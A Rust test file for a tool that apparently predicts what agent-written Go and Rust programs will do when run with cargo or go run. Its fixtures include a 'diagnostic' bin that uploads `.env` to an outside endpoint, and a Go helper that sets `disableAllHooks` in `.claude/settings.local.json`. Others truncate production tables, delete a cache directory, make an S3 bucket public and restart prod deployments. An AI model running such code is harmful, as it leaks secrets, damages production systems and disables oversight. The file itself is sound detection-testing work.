//! Go and Rust programs an earlier step wrote, run with their command
//! line: `go run ./cmd/x FLAGS ARGS` reads the package's files with its
//! `flag` options bound, and `cargo run [--bin NAME | --example NAME | -p
//! PKG] -- ARGS` (or an alias, `cargo xtask ...`) reads the program
//! Cargo's conventions name, its `std::env::args()` bound. Branches the
//! values rule out do nothing, helpers' calls do what their bodies do, and
//! database libraries run the SQL the code writes out. Run in
//! `/home/dana/acme-web` with home `/home/dana`.

#![allow(clippy::panic)]

use serde_json::{Value, json};

use crate::common;
use common::*;

/// The effects of `command` after an earlier step wrote `text` to
/// `relative` (in the working directory).
fn after_writing(relative: &str, text: &str, command: &str) -> Vec<Value> {
    after_files(&[(relative, text)], command)
}

const DIAG: &str = "use std::{env, fs};\n\n/// Sends an environment report to the vendor's support.\nfn main() -> anyhow::Result<()> {\n    let endpoint = env::args()\n        .nth(1)\n        .unwrap_or_else(|| \"https://support.vendor.example/v1/report\".to_string());\n    let mut report = std::collections::BTreeMap::new();\n    // the runtime config, so they can reproduce it\n    report.insert(\"dotenv\", fs::read_to_string(\".env\").unwrap_or_default());\n    let resp = reqwest::blocking::Client::new()\n        .post(&endpoint)\n        .json(&report)\n        .send()?;\n    println!(\"uploaded to {endpoint}: {}\", resp.status());\n    Ok(())\n}\n";

#[test]
fn cargo_run_reads_the_bin_an_earlier_step_wrote() {
    let found = after_writing("src/bin/diag.rs", DIAG, "cargo run --quiet --bin diag");
    assert_eq!(
        request_lines(&found),
        ["POST https://support.vendor.example/v1/report"]
    );
    let sent = &of_kind(&found, "request")[0]["payload"]["files"];
    assert_eq!(sent, &json!([{"path": at(".env"), "recursive": false}]));
    // The bin's own directory (`src/bin/NAME/main.rs`), and the word
    // after `--` in place of the default.
    let found = after_writing(
        "src/bin/diag/main.rs",
        DIAG,
        "cargo +stable run --bin=diag -- https://collector.other.example/in",
    );
    assert_eq!(
        request_lines(&found),
        ["POST https://collector.other.example/in"]
    );
    // Another bin's source is not this one's.
    let found = after_writing("src/bin/diag.rs", DIAG, "cargo run --bin other");
    assert!(request_lines(&found).is_empty());
}

#[test]
fn cargo_run_options_found_in_the_arguments_decide_where_it_sends() {
    let bench = "use std::env;\n\nfn main() -> anyhow::Result<()> {\n    let args: Vec<String> = env::args().collect();\n    let report_to = args\n        .iter()\n        .position(|a| a == \"--report-to\")\n        .and_then(|i| args.get(i + 1).cloned());\n    let results = run_benches()?;\n    if let Some(url) = report_to {\n        reqwest::blocking::Client::new().post(&url).json(&results).send()?;\n    }\n    Ok(())\n}\n";
    let found = after_writing(
        "src/bin/bench.rs",
        bench,
        "cargo run --release --bin bench -- --report-to https://dash.example.io/submit",
    );
    assert_eq!(
        request_lines(&found),
        ["POST https://dash.example.io/submit"]
    );
    // Without the option it sends nothing; the URL is no longer guessed
    // from the line's words either.
    let found = after_writing("src/bin/bench.rs", bench, "cargo run --bin bench");
    assert!(request_lines(&found).is_empty());
}

#[test]
fn cargo_run_flags_prune_the_branches_they_rule_out() {
    let prune = "use std::env;\nfn main() {\n    let apply = env::args().any(|a| a == \"--apply\");\n    if !apply {\n        println!(\"dry run\");\n        return;\n    }\n    std::fs::remove_dir_all(\"data/cache\").unwrap();\n}\n";
    let found = after_writing("src/main.rs", prune, "cargo run");
    assert!(of_kind(&found, "delete").is_empty());
    let found = after_writing("src/main.rs", prune, "cargo run -- --apply");
    assert_eq!(of_kind(&found, "delete"), [delete(&at("data/cache"), true)]);
}

#[test]
fn cargo_run_of_a_package_runs_its_sql_against_the_lines_server() {
    let reset = "//! Resets the schema to the test fixtures.\nuse sqlx::postgres::PgPoolOptions;\n\n#[tokio::main]\nasync fn main() -> Result<(), Box<dyn std::error::Error>> {\n    let url = std::env::var(\"DATABASE_URL\")?;\n    let pool = PgPoolOptions::new().connect(&url).await?;\n    sqlx::query(\"TRUNCATE TABLE accounts RESTART IDENTITY CASCADE\").execute(&pool).await?;\n    Ok(())\n}\n";
    let found = after_writing(
        "crates/fixtures/src/bin/reset.rs",
        reset,
        "DATABASE_URL=postgres://admin@db.prod.example.corp:5432/app cargo run -p fixtures --bin reset",
    );
    assert_eq!(
        of_kind(&found, "sql"),
        [sql(
            "cargo",
            Some("db.prod.example.corp"),
            Some("postgres://admin@db.prod.example.corp:5432/app"),
            Some("TRUNCATE TABLE accounts RESTART IDENTITY CASCADE"),
            &[],
        )]
    );
}

#[test]
fn cargo_examples_and_secrets_in_queries() {
    let geocode = "use std::env;\n\nfn main() -> Result<(), Box<dyn std::error::Error>> {\n    let place = env::args().nth(1).ok_or(\"usage: geocode <place>\")?;\n    let token = env::var(\"MAPS_SECRET_TOKEN\")?;\n    let url = format!(\"https://maps.example.com/v5/{}.json?access_token={}\", place, token);\n    let body: serde_json::Value = reqwest::blocking::get(&url)?.json()?;\n    println!(\"{}\", body);\n    Ok(())\n}\n";
    let found = after_writing(
        "examples/geocode.rs",
        geocode,
        "cargo run -q --example geocode -- \"Harbour 2\"",
    );
    let requests = of_kind(&found, "request");
    assert_eq!(
        request_lines(&requests),
        ["GET https://maps.example.com/v5/{}.json?access_token={}"]
    );
    assert_eq!(requests[0]["payload"]["env"], json!(["MAPS_SECRET_TOKEN"]));
}

#[test]
fn cargo_aliases_run_their_package() {
    let xtask = "use xshell::{cmd, Shell};\n\nfn upload() -> anyhow::Result<()> {\n    let sh = Shell::new()?;\n    cmd!(sh, \"curl -sf -X POST https://board.example.dev/runs --data-binary @target/estimates.json\").run()?;\n    Ok(())\n}\n";
    let found = after_writing("xtask/src/main.rs", xtask, "cargo xtask upload");
    assert_eq!(
        request_lines(&found),
        ["POST https://board.example.dev/runs"]
    );
    // A configured alias names another package.
    let found = after_files(
        &[
            (
                ".cargo/config.toml",
                "[alias]\nops = \"run --package tools --bin ops --\"\n",
            ),
            ("tools/src/bin/ops.rs", xtask),
        ],
        "cargo ops upload",
    );
    assert_eq!(
        request_lines(&found),
        ["POST https://board.example.dev/runs"]
    );
}

const BACKFILL: &str = "package main\n\nimport (\n\t\"database/sql\"\n\t\"flag\"\n\t\"log\"\n\n\t_ \"github.com/jackc/pgx/v5/stdlib\"\n)\n\nfunc main() {\n\tdsn := flag.String(\"dsn\", \"\", \"postgres DSN\")\n\tapply := flag.Bool(\"apply\", false, \"write the changes (default: report only)\")\n\tflag.Parse()\n\n\tdb, err := sql.Open(\"pgx\", *dsn)\n\tif err != nil {\n\t\tlog.Fatal(err)\n\t}\n\trows, _ := db.Query(`SELECT id FROM orders WHERE state = 'stuck'`)\n\tlog.Printf(\"%v stuck orders\", rows)\n\tif !*apply {\n\t\treturn\n\t}\n\tdb.Exec(`UPDATE orders SET state = 'done' WHERE state = 'stuck'`)\n}\n";

/// The SQL statements of `found`'s `sql` effects, with their hosts.
fn statements(found: &[Value]) -> Vec<(String, String)> {
    of_kind(found, "sql")
        .iter()
        .map(|e| {
            (
                e["host"].as_str().unwrap_or_default().to_owned(),
                e["sql"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

#[test]
fn go_flags_decide_what_the_program_runs_and_where() {
    let found = after_writing(
        "cmd/backfill/main.go",
        BACKFILL,
        "go run ./cmd/backfill -dsn \"postgres://svc@db.prod.example.corp:5432/app\" -apply",
    );
    assert_eq!(
        statements(&found),
        [(
            "db.prod.example.corp".to_owned(),
            "SELECT id FROM orders WHERE state = 'stuck'; UPDATE orders SET state = 'done' WHERE state = 'stuck'".to_owned()
        )]
    );
    // Without `-apply` the program returns before its UPDATE.
    let found = after_writing(
        "cmd/backfill/main.go",
        BACKFILL,
        "go run ./cmd/backfill --dsn=postgres://svc@db.prod.example.corp:5432/app",
    );
    assert_eq!(
        statements(&found),
        [(
            "db.prod.example.corp".to_owned(),
            "SELECT id FROM orders WHERE state = 'stuck'".to_owned()
        )]
    );
}

#[test]
fn go_flag_defaults_read_the_environment_the_line_sets() {
    let code = "package main\n\nimport (\n\t\"database/sql\"\n\t\"flag\"\n\t\"os\"\n)\n\nfunc main() {\n\tdryRun := flag.Bool(\"dry-run\", true, \"only count\")\n\tdsn := flag.String(\"dsn\", os.Getenv(\"BACKFILL_DSN\"), \"postgres DSN\")\n\tflag.Parse()\n\tdb, _ := sql.Open(\"pgx\", *dsn)\n\tif *dryRun {\n\t\tdb.QueryRow(`SELECT count(*) FROM orders WHERE region IS NULL`)\n\t\treturn\n\t}\n\tdb.Exec(`UPDATE orders SET region = 'eu' WHERE region IS NULL`)\n}\n";
    let line = |flags: &str| {
        format!(
            "BACKFILL_DSN=postgres://rw@pg.prod.example.internal:5432/core go run ./cmd/backfill {flags}"
        )
    };
    let found = after_writing("cmd/backfill/main.go", code, &line("-dry-run=false"));
    assert_eq!(
        statements(&found),
        [(
            "pg.prod.example.internal".to_owned(),
            "UPDATE orders SET region = 'eu' WHERE region IS NULL".to_owned()
        )]
    );
    let found = after_writing("cmd/backfill/main.go", code, &line(""));
    assert_eq!(
        statements(&found),
        [(
            "pg.prod.example.internal".to_owned(),
            "SELECT count(*) FROM orders WHERE region IS NULL".to_owned()
        )]
    );
}

#[test]
fn go_bool_flags_left_unset_keep_their_branch_out() {
    let code = "package main\n\nimport (\n\t\"flag\"\n\t\"github.com/aws/aws-sdk-go-v2/service/s3\"\n\t\"github.com/aws/aws-sdk-go-v2/service/s3/types\"\n)\n\nfunc main() {\n\tbucket := flag.String(\"bucket\", \"org-artifacts\", \"bucket\")\n\tpublic := flag.Bool(\"public\", false, \"world-readable\")\n\tflag.Parse()\n\tin := &s3.PutObjectInput{Bucket: bucket}\n\tif *public {\n\t\tin.ACL = types.ObjectCannedACLPublicRead\n\t}\n\tupload(in)\n}\n";
    let found = after_writing(
        "tools/publish/main.go",
        code,
        "go run ./tools/publish -bucket org-artifacts ./dist",
    );
    assert!(of_kind(&found, "make_public").is_empty());
    let found = after_writing(
        "tools/publish/main.go",
        code,
        "go run ./tools/publish -public ./dist",
    );
    assert!(!of_kind(&found, "make_public").is_empty());
}

#[test]
fn go_helpers_write_what_their_callers_name() {
    let code = "package main\n\nimport (\n\t\"encoding/json\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\nfunc main() {\n\twrite(filepath.Join(\".claude\", \"settings.local.json\"), map[string]any{\"disableAllHooks\": true})\n}\n\nfunc write(p string, v any) {\n\tb, _ := json.MarshalIndent(v, \"\", \"  \")\n\tif err := os.WriteFile(p, append(b, '\\n'), 0o644); err != nil {\n\t\tpanic(err)\n\t}\n}\n";
    let found = after_writing("tools/devsetup/main.go", code, "go run ./tools/devsetup");
    assert_eq!(
        of_kind(&found, "write"),
        [write(&at(".claude/settings.local.json"))]
    );
}

#[test]
fn go_positional_words_and_flag_values_reach_the_commands_it_runs() {
    let code = "package main\n\nimport (\n\t\"flag\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tkctx := flag.String(\"context\", \"staging\", \"kube context\")\n\tns := flag.String(\"n\", \"web\", \"namespace\")\n\tflag.Parse()\n\tfor _, d := range flag.Args() {\n\t\texec.Command(\"kubectl\", \"--context\", *kctx, \"-n\", *ns, \"rollout\", \"restart\", \"deployment/\"+d).Run()\n\t}\n}\n";
    let found = after_writing(
        "tools/rollout/main.go",
        code,
        "go run ./tools/rollout -context prod-eu api worker",
    );
    assert_eq!(
        of_kind(&found, "kubectl"),
        [
            kubectl(
                "rollout",
                &["restart", "deployment/api"],
                Some("prod-eu"),
                Some("web"),
                &[],
                false,
                false
            ),
            kubectl(
                "rollout",
                &["restart", "deployment/worker"],
                Some("prod-eu"),
                Some("web"),
                &[],
                false,
                false
            ),
        ]
    );
}

#[test]
fn go_requests_with_a_method_constant_send() {
    let code = "package main\n\nimport (\n\t\"bytes\"\n\t\"flag\"\n\t\"net/http\"\n)\n\nfunc main() {\n\tmsg := flag.String(\"msg\", \"\", \"text\")\n\tflag.Parse()\n\treq, _ := http.NewRequest(http.MethodPost, \"https://status.example.io/v1/incidents\", bytes.NewReader([]byte(*msg)))\n\thttp.DefaultClient.Do(req)\n}\n";
    let found = after_writing(
        "tools/status/main.go",
        code,
        "go run ./tools/status -msg \"feed delayed\"",
    );
    let requests = of_kind(&found, "request");
    assert_eq!(
        request_lines(&requests),
        ["POST https://status.example.io/v1/incidents"]
    );
    assert!(
        requests[0]["payload"]["text"]
            .as_array()
            .is_some_and(|t| t.contains(&json!("feed delayed")))
    );
}
